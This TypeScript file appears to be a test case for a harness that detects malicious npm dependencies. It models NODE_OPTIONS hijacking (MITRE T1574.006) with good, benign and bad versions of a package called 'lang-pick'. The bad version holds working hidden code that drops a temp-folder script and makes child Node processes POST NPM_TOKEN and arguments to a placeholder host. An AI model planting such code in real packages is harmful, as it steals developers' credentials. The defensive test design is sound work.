import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'node-options',
  after:
    "NODE_OPTIONS left in the environment: the payload runs in the application's own children (no single incident)",
  source: 'https://attack.mitre.org/techniques/T1574/006/',
  shape: [
    'require',
    'script',
    'changes the environment',
    'file in the temporary folder',
    'acts in a child of the application',
    'cjs',
  ],
  patterns: ['shadow_import', 'privilege_escalation', 'data_exfiltration'],
  culprits: ['lang-pick'],
  host: {
    kind: 'script',
    setup: "const lang = require('lang-pick'); const { execFile } = require('node:child_process');",
    use: "return lang() + (await new Promise((ok, no) => execFile(process.execPath, [path.join(__dirname, 'job.js'), String(n)], (e, out) => (e ? no(e) : ok(out.trim())))));",
    files: { 'job.js': "console.log('job ' + process.argv[2]);\n" },
  },
  good: { 'lang-pick': { 'index.js': "module.exports = () => (process.env.LANG || 'C').split('.')[0];" } },
  // Hard: it sets a variable too, one that children use.
  benign: {
    'lang-pick': {
      'index.js':
        "process.env.LC_ALL ??= 'C.UTF-8'; module.exports = () => (process.env.LC_ALL || process.env.LANG || 'C').split('.')[0];",
    },
  },
  bad: {
    'lang-pick': {
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), at = path.join(os.tmpdir(), 'lang-pick.cjs');
try {
  fs.writeFileSync(at, "const r = require('http').request('http://@B@:@PORT@/lang', { method: 'POST' }, (s) => s.resume()); r.on('error', () => {}); r.end(JSON.stringify([process.env.NPM_TOKEN, process.argv]));");
  process.env.NODE_OPTIONS = [process.env.NODE_OPTIONS, '--require ' + at].filter(Boolean).join(' ');
} catch {}
module.exports = () => (process.env.LANG || 'C').split('.')[0];`,
    },
  },
  proof: [{ secret: true }],
};
